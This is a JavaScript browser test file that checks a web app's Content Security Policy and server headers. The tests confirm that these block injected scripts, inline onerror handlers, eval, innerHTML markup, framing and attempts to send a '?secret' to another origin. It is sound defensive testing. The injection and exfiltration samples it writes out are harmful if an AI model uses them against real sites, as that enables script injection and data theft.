// Nothing let in, nothing let out: the page's own content policy, the server's headers.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, afterEach, test } from "node:test";
import { testWorld } from "./browser.js";
import { write } from "./files.js";
import { available } from "./network.js";
import { hand, png } from "./pictures.js";
import { TestServer, WWW, answering } from "./server.js";
import { HEADERS, staticFiles } from "../../scripts/serve.js";

/** @typedef {import("puppeteer-core").Page} Page */

const file = write("four.png", png(hand(4, 220, 220)));

const { browser, server, visit, pageTest, teachTest } = await testWorld();
/** Another origin, which notes whoever comes. */
const elsewhere = await TestServer.start();
after(() => elsewhere.stop());
afterEach(() => assert.deepEqual(elsewhere.requests, [], "nothing reached another origin"));

/** Notes what the content policy forbids, from the first script on. @param {Page} page */
const noteViolations = (page) => page.evaluateOnNewDocument(() => {
  const noted = /** @type {{ violations: string[] }} */ (/** @type {unknown} */ (globalThis));
  noted.violations = [];
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => noted.violations.push(effectiveDirective));
});

/** @type {[name: string, directive: string, attempt: (elsewhere: string) => unknown][]} */
const ATTEMPTS = [
  ["a script that is written", "require-trusted-types-for", () => {
    const script = document.createElement("script");
    script.append("globalThis.intruded = true");
    document.head.append(script);
  }],
  ["an inline handler", "require-trusted-types-for", () => {
    const image = document.createElement("img");
    image.setAttribute("onerror", "globalThis.intruded = true");
    image.src = "no-such-picture.png";
    document.body.append(image);
  }],
  ["a script from elsewhere", "script-src-elem", (elsewhere) => import(`${elsewhere}/a.js`)],
  ["text evaluated as a script", "require-trusted-types-for", () => {
    (0, eval)("globalThis.intruded = true");
  }],
  ["markup from a string", "require-trusted-types-for", () => {
    document.body.innerHTML = '<img src="x" onerror="globalThis.intruded = true">';
  }],
  ["a worker of a script that is not the page's", "require-trusted-types-for", () => {
    new Worker("recognizer/requests.js");
  }],
  ["a policy that would allow one", "trusted-types", () => {
    /** @type {any} */ (globalThis).trustedTypes.createPolicy("other", { createScriptURL: String });
  }],
  ["a fetch", "connect-src", (elsewhere) => fetch(`${elsewhere}/?secret`)],
  ["a beacon", "connect-src", (elsewhere) => navigator.sendBeacon(`${elsewhere}/?secret`)],
  ["a socket", "connect-src", (elsewhere) => new WebSocket(elsewhere.replace("http", "ws"))],
  ["a picture", "img-src", (elsewhere) => { new Image().src = `${elsewhere}/?secret`; }],
  ["a style", "style-src-elem", (elsewhere) => {
    document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${elsewhere}/a.css` }));
  }],
  ["an inline style", "style-src-attr", () => { document.body.setAttribute("style", "background: red"); }],
  ["a frame", "frame-src", (elsewhere) => { document.body.append(Object.assign(document.createElement("iframe"), { src: elsewhere })); }],
  ["a font", "font-src", (elsewhere) => { void new FontFace("a", `url(${elsewhere}/a.woff2)`).load().catch(() => {}); }],
  ["a video", "media-src", (elsewhere) => { document.createElement("video").src = `${elsewhere}/a.mp4`; }],
  ["a form", "form-action", (elsewhere) => {
    const form = Object.assign(document.createElement("form"), { action: elsewhere, method: "post" });
    document.body.append(form);
    form.submit();
  }],
  ["another base for every address", "base-uri", (elsewhere) => {
    document.head.append(Object.assign(document.createElement("base"), { href: elsewhere }));
  }],
];

/** The page alone, without a word from its server. */
function withoutHeaders() {
  server.policy = null;
  server.serve = staticFiles(WWW, {});
}

pageTest("the page's own policy, without a word from the server, stops what is injected and what wants out", {
  given: withoutHeaders, forbidden: elsewhere.origin, before: noteViolations,
  expectedErrors: [/Content Security Policy|Trusted|document's base|violates|ERR_BLOCKED_BY_CSP|no-such-picture/],
}, async (signet) => {
  const violations = () => signet.page.evaluate(() => /** @type {any} */ (globalThis).violations.splice(0));
  assert.deepEqual(await violations(), [], "the page itself stays inside of its policy");
  for (const [name, directive, attempt] of ATTEMPTS) {
    // Later, by itself: what DevTools call directly may do what a page may not.
    await signet.page.evaluate(`void setTimeout(async () => { try { await (${attempt})("${elsewhere.origin}"); } catch {} })`);
    const noted = await signet.until(`${name} to be stopped`, async () => {
      const found = await violations();
      return found.length > 0 && found;
    }, 5_000);
    assert.ok(noted.includes(directive), `${name}: ${noted}`);
  }
  assert.equal(await signet.page.evaluate(() => "intruded" in globalThis), false);
  await signet.uploadWorks(file);
});

pageTest("scripts that came with the page on its way are not run", {
  given: () => {
    withoutHeaders();
    const page = readFileSync(`${WWW}/index.html`, "utf8").replace("</body>", `<script>globalThis.intruded = true;</script>
      <img src="no-such-picture.png" alt="" onerror="globalThis.intruded = true"></body>`);
    server.replace("/", answering(page, "text/html"));
  },
  before: noteViolations, expectedErrors: [/Content Security Policy|violates|ERR_BLOCKED_BY_CSP|no-such-picture/],
}, async ({ page }) => {
  const violations = await page.evaluate(() => /** @type {any} */ (globalThis).violations);
  assert.deepEqual(violations.sort(), ["script-src-attr", "script-src-elem"]);
  assert.equal(await page.evaluate(() => "intruded" in globalThis), false);
});

teachTest("with the headers of its own server all of it works: classifying, teaching, the service worker", {
  hands: 4, serviceWorker: true, before: noteViolations, given: () => { server.policy = null; },
}, async (tab) => {
  await tab.train({ epochs: 2 });
  await tab.classify(file);
  await available(tab);
  assert.deepEqual(await tab.page.evaluate(() => /** @type {any} */ (globalThis).violations), []);
  const allowed = await tab.page.evaluate(() => {
    const { featurePolicy } = /** @type {{ featurePolicy: { allowsFeature(name: string): boolean } }} */ (/** @type {unknown} */ (document));
    return ["camera", "microphone", "geolocation", "usb"].filter((name) => featurePolicy.allowsFeature(name));
  });
  assert.deepEqual(allowed, ["camera"]);
  // What the service worker has stored has them, too.
  await tab.page.reload();
  await tab.ready();
  const headers = await tab.page.evaluate(async () => Object.fromEntries((await fetch("./")).headers));
  for (const [name, value] of Object.entries(HEADERS)) assert.equal(headers[name.toLowerCase()], value);
});

test("a worker, which no page's policy binds, is bound by the server's", async () => {
  server.policy = null;
  server.replace("/recognizer/worker.js", (_, response) => {
    for (const [name, value] of Object.entries(HEADERS)) response.setHeader(name, value);
    response.writeHead(200, { "Content-Type": "text/javascript" }).end(`
      addEventListener("message", async ({ data }) => {
        const got = await fetch("${elsewhere.origin}/?secret").then(() => "answered", () => "refused");
        postMessage({ id: data.id, ok: false, error: { code: "unexpected", message: got } });
      });
      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => console.info("stopped by " + effectiveDirective));`);
  });
  let isStopped = false;
  const before = async (/** @type {import("puppeteer-core").Page} */ page) => void page.on("console", (message) => {
    isStopped ||= message.text() === "stopped by connect-src";
  });
  await visit({ before, expectedErrors: [/violates|Content Security Policy/] }, async (signet) => {
    await signet.failure(/^unexpected$/);
    await signet.until("the worker to be stopped", async () => isStopped);
  });
});

test("no other site can show the page in a frame", async () => {
  server.policy = null;
  server.replace("/frame.html", answering(`<!doctype html><link rel="icon" href="data:,"><iframe src="${server.origin}/"></iframe>`, "text/html"));
  const context = await browser.createBrowserContext();
  try {
    const page = await context.newPage();
    const refused = new Promise((resolve) => page.on("console", (message) => {
      if (/frame-ancestors/.test(message.text())) resolve(true);
    }));
    await page.goto(`${server.insecureOrigin}/frame.html`);
    await refused;
  } finally {
    await context.close();
  }
});
